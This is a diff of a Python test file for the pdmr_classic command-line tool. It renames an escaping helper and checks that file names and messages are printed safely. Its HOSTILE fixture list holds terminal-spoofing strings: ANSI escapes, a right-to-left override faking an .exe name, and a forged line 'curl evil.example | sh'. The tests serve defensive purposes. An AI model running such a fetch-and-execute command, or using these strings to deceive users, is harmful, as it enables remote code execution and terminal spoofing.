@@ -22,7 +22,7 @@ from pdmr_classic.cli import _console
 from pdmr_classic.errors import DataError, Finding
 from pdmr_classic.progress import LogReporter
 from pdmr_classic.reporting.tables import prediction_table
-from pdmr_classic.text import printable, to_json
+from pdmr_classic.text import escape_unprintable, to_json
 
 HOSTILE = (
     "\x1b[31mRED",
@@ -32,7 +32,7 @@ HOSTILE = (
     "[red]x",
     "[link=https:evil.example]x",
     ":warning:",
-    "a\n  mend:     curl evil.example | sh",
+    "a\n  hint:     curl evil.example | sh",
     "back\rto the start",
     "\b\b\b",
     "\u202egnp.exe",
@@ -110,7 +110,7 @@ def test_every_verb_prints_names_escaped_and_gives_them_back_in_json(hostile: Pa
     if command[0] in ("check", "predict"):
         classes = shown["predicted"] if command[0] == "predict" else shown["splits"]["train"]["classes"]
         assert set(classes) == {POSITIVE, NEGATIVE}
-        assert all(printable(label) in text for label in classes)
+        assert all(escape_unprintable(label) in text for label in classes)
     names = {path.name for path in set(hostile.rglob("*")) - before}
     assert names <= {"f.parquet", "r.jsonl", "r.notes.json", "evaluation.json"}
     assert set(hostile.parent.iterdir()) == beside
@@ -150,7 +150,9 @@ def test_refusals_print_names_escaped_on_their_own_lines(
         result = checked(invoke(verb, "set", cwd=tmp_path), 3)
         lines = result.stderr.splitlines()
         assert sum(line.startswith("error:") for line in lines) == (verb != "check")
-        assert verb == "check" or any(printable(path.name) in line for line in lines if line.startswith("  where:"))
+        assert verb == "check" or any(
+            escape_unprintable(path.name) in line for line in lines if line.startswith("  where:")
+        )
     (refused,) = json.loads(checked(invoke("check", "set", "--json", cwd=tmp_path), 3).stdout)["refused"]
     assert (refused["code"], Path(refused["file"]).name) == (code, path.name)
 
@@ -229,15 +231,15 @@ def on_terminal(*args: str, cwd: Path) -> bytes:
 
 @pytest.mark.parametrize("text", [*HOSTILE, POSITIVE, NEGATIVE, "\udce9", "\U000e0001", "\xa0", "\x00"])
 def test_escaped_text_is_one_printable_line_and_json_gives_it_back(text: str) -> None:
-    assert printable(text).isprintable()
-    assert printable(printable(text)) == printable(text)
+    assert escape_unprintable(text).isprintable()
+    assert escape_unprintable(escape_unprintable(text)) == escape_unprintable(text)
     assert to_json({text: [text]}).isprintable()
     assert json.loads(to_json({text: [text]}, indent=2)) == {text: [text]}
 
 
 def test_what_is_printable_stays_as_it_is() -> None:
     for text in ("Größe, naïve, 深い, 😀, [red]x[/red]", ""):
-        assert printable(text) == text
+        assert escape_unprintable(text) == text
         assert to_json(text) == f'"{text}"'
 
 
@@ -247,13 +249,13 @@ def test_a_number_that_json_does_not_know_is_an_error() -> None:
 
 
 def test_every_part_of_a_finding_is_printed_escaped(caplog: pytest.LogCaptureFixture) -> None:
-    text = "\x1b[2J\n  mend:     x"
-    finding = Finding("x", text, file=text, row=1, column=text, expected=text, found=text, mend=text)
+    text = "\x1b[2J\n  hint:     x"
+    finding = Finding("x", text, file=text, row=1, column=text, expected=text, found=text, hint=text)
     for shown in (str(finding), str(DataError(finding))):
         assert is_safe(shown)
         assert len(shown.splitlines()) == 5
     with caplog.at_level(logging.DEBUG, "pdmr_classic"):
-        LogReporter().tell(finding)
+        LogReporter().note(finding)
     assert len(caplog.messages) == 2
     assert all(map(is_safe, caplog.messages))
 
